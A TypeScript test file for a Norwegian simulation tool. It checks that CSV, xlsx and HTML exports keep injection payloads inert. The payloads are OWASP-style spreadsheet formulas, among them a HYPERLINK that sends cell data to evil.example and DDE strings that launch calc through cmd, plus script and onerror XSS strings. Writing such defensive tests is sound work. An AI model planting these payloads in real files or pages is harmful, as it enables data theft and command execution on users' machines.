// Formula injection: payloads in scenario reasons, kommune names and register fields are inert in CSV, xlsx and HTML.
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { sheetCsv } from "../../src/export/csv";
import { workbookBytes } from "../../src/export/xlsx";
import type { Sheet } from "../../src/export/sheet";
import { htmlTable } from "../../src/report/htmlTable";
import { validationSummaryTable } from "../../src/report/registerTables";
import { parseRegisterCsv } from "../../src/register/readRegister";
import { validateRegister } from "../../src/register/validateRegister";
import { loadRuleCatalogue } from "../../src/register/ruleCatalogue";
import { realParams, ROOT, STANDARD } from "../helpers";
import { runInProcess } from "./inProcess";

/** OWASP's CSV-injection examples and friends: each starts with a character a spreadsheet reads as a formula. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1;"klikk her")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const HTML = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'];

/** Every field of a CSV file written for Norwegian Excel, read back with csv-parse (quotes removed). */
function allCsvFields(csv: string): string[] {
  return (parse(csv, { delimiter: ";", bom: true, record_delimiter: "\r\n", relax_column_count: true }) as string[][]).flat();
}

const sheetOf = (texts: string[]): Sheet => ({
  name: "test",
  title: "Test",
  columns: [
    { header: "Tekst", format: "text" },
    { header: "Beløp", format: "nok" },
  ],
  rows: texts.map((t, i) => [t, -1000 * (i + 1)]),
});

describe("sheetCsv neutralises text that starts like a formula (OWASP)", () => {
  test("each payload gets a leading quote inside a quoted field; negative numbers stay numbers", () => {
    const csv = sheetCsv(sheetOf(FORMULAS));
    const rows = allCsvFields(csv);
    for (const p of FORMULAS) expect(rows).toContain(`'${p}`);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1;""klikk her"")";-1000\r\n');
    expect(csv).toContain(";-2000\r\n"); // a number, not text: no quote
  });

  test("no text field of any sheet starts with = + - @ tab or CR (property)", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ maxLength: 20 }), { maxLength: 10 }), (texts) => {
        for (const f of allCsvFields(sheetCsv(sheetOf(texts)))) if (!/^-?\d+$/.test(f)) expect(f).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500 },
    );
  });
});

describe("workbookBytes stores formula-like text as text", () => {
  test("each payload is a string cell with the text format @, and the workbook holds no formula", async () => {
    const bytes = await workbookBytes([sheetOf(FORMULAS)], { date: "2026-11-26", manifest: {} });
    const zip = await JSZip.loadAsync(bytes);
    const sheetXml = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    expect(sheetXml).not.toMatch(/<f[ >]/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("test")!;
    FORMULAS.forEach((p, i) => {
      const cell = ws.getCell(3 + i, 1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(p.replace(/\r/g, "\n")); // XML reads a carriage return back as a line feed
      expect(cell.numFmt).toBe("@");
      expect(ws.getCell(3 + i, 2).value).toBe(-1000 * (i + 1)); // numbers stay numbers
    });
  });
});

describe("introsim run with payloads in the scenario's reasons and the kommune names", () => {
  test("csv/, results.xlsx and report.html hold them inert", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "introsim-inject-"));
    const apps = fs.readFileSync(path.join(ROOT, "data/allocation/synthetic-applications-2022.csv"), "utf8").split("\n");
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const payloads = [...FORMULAS, ...HTML];
    const poisoned = apps.map((line, i) => {
      if (i === 0 || !line) return line;
      const cells = line.split(",");
      cells[1] = quote(payloads[i % payloads.length]!);
      return cells.join(",");
    });
    fs.writeFileSync(path.join(dir, "apps.csv"), poisoned.join("\n"));
    const reason = (p: string) => JSON.stringify(p);
    fs.writeFileSync(
      path.join(dir, "s.yaml"),
      [
        `extends: ${JSON.stringify(STANDARD)}`,
        "name: injeksjon",
        `title: ${reason(HTML[0]!)}`,
        "inputs:",
        `  substitutionShare: {type: trippelestimat, lav: 0.2, mest_sannsynlig: 0.5, hoy: 0.8, reason: ${reason(FORMULAS[0]!)}}`,
        `  stillingsprosent: {type: fixed, value: 0.8, reason: ${reason(FORMULAS[3]!)}}`,
        `  clinicalWeeksPerYear: {type: trippelestimat, lav: 40, mest_sannsynlig: 42, hoy: 45, reason: ${reason(HTML[1]!)}}`,
        "allocation:",
        "  applications: apps.csv",
      ].join("\n"),
    );
    const out = path.join(dir, "out");
    const r = await runInProcess(["run", "--scenario", path.join(dir, "s.yaml"), "--draws", "2000", "--out", out, "--csv"]);
    expect(r.stderr.split("\n").filter((l) => l.startsWith("introsim: error"))).toEqual([]);
    expect(r.code).toBe(0);
    for (const f of fs.readdirSync(path.join(out, "csv"))) {
      for (const field of allCsvFields(fs.readFileSync(path.join(out, "csv", f), "utf8")))
        if (!/^-?\d+(,\d+)?$/.test(field)) expect(field, `${f}: ${field}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    const assumptions = fs.readFileSync(path.join(out, "csv/forutsetninger.csv"), "utf8");
    expect(assumptions).toContain(`'${FORMULAS[0]!.replace(/"/g, '""')}`);
    const zip = await JSZip.loadAsync(fs.readFileSync(path.join(out, "results.xlsx")));
    for (const name of Object.keys(zip.files).filter((n) => n.startsWith("xl/worksheets/") && n.endsWith(".xml")))
      expect(await zip.file(name)!.async("string"), name).not.toMatch(/<f[ >]/);
    const html = fs.readFileSync(path.join(out, "report.html"), "utf8");
    expect(html).not.toContain("<script>alert(1)</script>");
    expect(html).not.toContain("<img src=x");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });
});

describe("register fields with payloads", () => {
  test("the validation table escapes them in HTML", () => {
    const text = fs.readFileSync(path.join(ROOT, "data/register/synthetic-agreements.csv"), "utf8").split("\n");
    const header = text[0]!.split(",");
    const idCol = header.indexOf("agreement_id");
    const fteCol = header.indexOf("fte_pct");
    const rows = text.slice(1, 4).map((line, i) => {
      const cells = line.split(",");
      cells[idCol] = `"${HTML[i % HTML.length]!.replace(/"/g, '""')}"`;
      cells[fteCol] = `"${FORMULAS[i]!.replace(/"/g, '""')}"`; // not a number: a FORMAT problem quoting the cell
      return cells.join(",");
    });
    const register = { file: "r.csv", sha256: "", ...parseRegisterCsv([text[0], ...rows].join("\n"), "r.csv") };
    const report = validateRegister(register, loadRuleCatalogue(), realParams());
    const html = htmlTable(validationSummaryTable(report));
    expect(html).not.toMatch(/<script>|<img /);
  });
});
